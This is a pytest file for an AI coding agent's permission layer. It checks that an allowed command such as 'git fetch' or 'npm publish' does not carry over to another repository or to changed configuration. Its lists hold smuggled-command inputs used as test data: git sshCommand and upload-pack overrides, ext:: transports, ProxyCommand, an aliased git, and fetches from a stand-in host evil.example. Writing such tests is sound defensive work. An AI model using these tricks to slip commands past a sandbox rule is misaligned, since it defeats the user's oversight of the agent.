"""A rule that lets a command out of the sandbox holds where it was given, for what was there then, and no further."""

from __future__ import annotations

from itertools import product
from pathlib import Path

import pytest

from agent_tui.config import PermissionMode, PermissionsConfig
from agent_tui.tools.base import Intent
from agent_tui.tools.permissions.permissions import Permissions
from agent_tui.tools.rules.decision import Decision, RemoteGit
from agent_tui.tools.rules.rule import changed, configuration
from tests.support.commands import World, make_world
from tests.support.every import every
from tests.support.git import git
from tests.support.tool_context import permissions_of

HELD: tuple[PermissionMode, ...] = ("ask", "accept-edits", "auto")


@pytest.fixture
def world(tmp_path: Path) -> World:
    """With a repository in ``sub`` that would have git start a program, as a model can make one."""
    world = make_world(tmp_path)
    git(world.root, "remote", "add", "origin", "https://example.org/x.git")
    sub = world.root / "sub"
    sub.mkdir()
    git(sub, "init", "-q")
    git(sub, "config", "core.sshCommand", "touch written")
    (sub / "package.json").write_text('{"scripts": {"prepublish": "touch written"}}')
    return world


def made(
    world: World, mode: PermissionMode = "ask", holds: bool = True, cwd: Path | None = None, **more: object
) -> Permissions:
    rules = {key: more.pop(key) for key in ("allow", "ask", "deny") if key in more}
    config = PermissionsConfig(mode, **rules)  # type: ignore[arg-type]
    held = (lambda domain: True) if holds else (lambda domain: domain == "free")
    return permissions_of(world.root, config, cwd=cwd or world.root, holds=held, **more)


def bash(permissions: Permissions, command: str, outside: bool = False) -> Decision:
    return permissions.decide("bash", Intent("command", command, command=command, outside=outside))


ELSEWHERE = [
    *("cd sub && git fetch", "(cd sub; git fetch)", "cd sub; git fetch origin", "git -C sub fetch"),
    *("GIT_DIR=sub/.git git fetch", "env GIT_DIR=sub/.git git fetch", "git --git-dir=sub/.git fetch"),
    *("git --git-dir sub/.git --work-tree sub fetch", "pushd sub && git fetch", "bash -c 'cd sub && git fetch'"),
    *(
        "git -c core.sshCommand='touch written' fetch",
        "git fetch sub",
        "git fetch ./sub",
        "git fetch 'ext::touch written'",
    ),
    *("git fetch --upload-pack='touch written' origin", "git fetch --upload-p=x", "git fetch https://evil.example/x"),
    *("git fetch git@evil.example:x", 'cd "$X" && git fetch', "eval 'cd sub'; git fetch", "builtin cd sub; git fetch"),
    *("source run.sh; git fetch", "cd sub && cd .. && git fetch", "git fetch --recurse-submodules=yes -o x"),
    *("./git fetch", "for d in sub; do cd $d; git fetch; done", "alias git=./evil; git fetch"),
]


@every("command", ELSEWHERE)
def test_always_git_fetch_holds_for_no_other_repository(world: World, command: str) -> None:
    for mode, rule, holds in product(HELD, ("git fetch *", "git fetch", "git *"), (True, False)):
        decision = bash(made(world, mode, holds, allow=[f"bash({rule})"]), command)
        assert decision.action == "ask", (mode, rule, holds, decision)


@every("command", ["git fetch", "git fetch origin", "git fetch --all --prune", "git fetch | tail -3"])
def test_what_the_rule_was_given_for_runs_as_it_was_shown(world: World, command: str) -> None:
    permissions = made(world)
    asked = bash(permissions, command)
    assert (asked.action, asked.domain, asked.patterns) == ("ask", "work", ["bash(git fetch *)"])
    shown = str(world.root).replace(str(Path.home()), "~", 1)
    assert shown in asked.reason, "the question says where the rule will hold"
    permissions.rules.remember(asked.patterns)
    decision = bash(permissions, command)
    words = tuple(command.partition(" |")[0].split())
    assert (decision.action, decision.domain) == ("allow", "work")
    assert decision.remotes == asked.remotes == (RemoteGit(words, world.root.resolve()),)


@pytest.mark.quick
def test_git_reaches_a_remote_by_our_own_hand_alone(world: World) -> None:
    permissions = made(world, "auto", allow=["bash(git push *)", "bash(git fetch *)"])
    both = bash(permissions, "git fetch -q && pytest -q && git push -u origin main")
    assert (both.action, both.domain) == ("allow", "work")
    assert [remote.argv[1] for remote in both.remotes] == ["fetch", "push"]
    beside = bash(permissions, "git fetch && gh pr list")
    assert (beside.action, beside.domain, beside.remotes) == ("ask", "free", ())


@pytest.mark.parametrize("place", ["the config", "the folder", "a link"])
def test_a_repository_whose_configuration_is_another_asks(world: World, place: str) -> None:
    permissions = made(world, "auto", allow=["bash(git fetch *)"])
    assert bash(permissions, "git fetch").action == "allow"
    (world.root / "package.json").write_text("{}")
    assert bash(permissions, "git fetch").action == "allow", "git does not read it"
    own = world.root / ".git"
    if place == "the config":
        git(world.root, "config", "core.hooksPath", "tools/hooks")
    elif place == "the folder":
        own.rename(world.root / "old")
        own.write_text("gitdir: sub/.git\n")
    else:
        (own / "config").rename(own / "old")
        (own / "config").symlink_to(world.root / "sub/.git/config")
    decision = bash(permissions, "git fetch")
    assert decision.action == "ask" and ".git" in decision.reason and "has changed" in decision.reason


def test_which_branch_follows_which_is_no_change(world: World) -> None:
    permissions = made(world, "auto", allow=["bash(git push *)"])
    assert bash(permissions, "git push").action == "allow"
    git(world.root, "config", "branch.main.remote", "origin")
    git(world.root, "config", "branch.main.merge", "refs/heads/main")
    assert bash(permissions, "git push").action == "allow"


@pytest.mark.slow
@every(
    ("rule", "command", "name"),
    [
        ("bash(npm publish)", "npm publish", "package.json"),
        ("outside(npm test *)", "npm test", ".npmrc"),
        ("outside(make *)", "make all", "Makefile"),
        ("outside(cargo test *)", "cargo test", ".cargo/config.toml"),
        ("outside(pip install *)", "pip install .", "setup.py"),
        ("outside(pytest *)", "pytest -q", "conftest.py"),
        ("bash(docker build *)", "docker build .", "Dockerfile"),
    ],
)
def test_a_program_that_reads_its_folder_asks_after_that_changed(
    world: World, rule: str, command: str, name: str
) -> None:
    outside = rule.startswith("outside")
    permissions = made(world, "auto", allow=[rule])
    assert (bash(permissions, command, outside).action, bash(permissions, command, outside).domain) == ("allow", "free")
    assert bash(permissions, f"cd sub && {command}", outside).action == "ask"
    (world.root / name).parent.mkdir(exist_ok=True)
    (world.root / name).write_text("changed")
    decision = bash(permissions, command, outside)
    assert decision.action == "ask" and f"{name} has changed" in decision.reason
    permissions.rules.remember([rule])
    assert bash(permissions, command, outside).action == "allow", "given anew, for what is there now"
    (world.root / name).unlink()
    assert bash(permissions, command, outside).action == "ask"


@every(
    ("rule", "command"),
    [
        ("outside(npm test *)", "npm test --prefix sub"),
        ("outside(npm test *)", "npm --prefix sub test"),
        ("outside(cargo test *)", "cargo test --manifest-path sub/Cargo.toml"),
        ("outside(make *)", "make -C sub"),
        ("outside(make *)", "make -f sub/Makefile"),
        ("bash(docker build *)", "docker build --file=sub/Dockerfile ."),
        ("bash(kubectl get *)", "kubectl get pods --kubeconfig=evil"),
        ("bash(gh pr list *)", "cd sub && gh pr list"),
        ("bash(ssh host *)", "ssh host -o ProxyCommand=evil"),
    ],
)
def test_another_folder_or_an_option_that_starts_things_is_not_covered(world: World, rule: str, command: str) -> None:
    assert bash(made(world, "auto", allow=[rule]), command, rule.startswith("outside")).action == "ask"


def test_a_rule_is_of_the_root_also_where_the_session_stands_below_it(world: World) -> None:
    below = made(world, "auto", cwd=world.root / "src", allow=["bash(npm publish)", "bash(git fetch *)"])
    assert bash(below, "npm publish").action == "ask"
    assert bash(below, "git fetch").remotes == (RemoteGit(("git", "fetch"), (world.root / "src").resolve()),)
    other = made(world, "auto", cwd=world.root / "sub", allow=["bash(git fetch *)"])
    assert bash(other, "git fetch").action == "ask", "another repository"


def test_what_is_held_is_not_bound(world: World) -> None:
    permissions = made(world, allow=["bash(pytest *)", "bash(npm install *)"])
    (world.root / "conftest.py").write_text("changed")
    for command in ("pytest -q", "cd sub && pytest -c sub/pytest.ini -p evil"):
        assert (bash(permissions, command).action, bash(permissions, command).domain) == ("allow", "work")
    assert bash(permissions, "npm install --registry=https://evil.example x").action == "ask"


def test_always_never_offers_what_it_would_not_keep(world: World) -> None:
    for command in ("git -c a.b=c fetch", "git fetch ext::x", "cd sub && git fetch", "git push $(x)"):
        assert bash(made(world), command).patterns == [], command
    assert bash(made(world, holds=False), "cargo test --config x").patterns == ["bash(cargo test --config x)"]


def test_what_programs_write_for_themselves_is_no_configuration(world: World) -> None:
    before = configuration(world.root)
    for name in (".coverage", "README.md", "src/app.py", "notes.txt", "Cargo.lock"):
        (world.root / name).write_text("changed")
    (world.root / ".pytest_cache").mkdir()
    assert changed(before, configuration(world.root), of_git=False) == ""
    (world.root / "pyproject.toml").write_text("changed")
    assert changed(before, configuration(world.root), of_git=False) == "pyproject.toml"
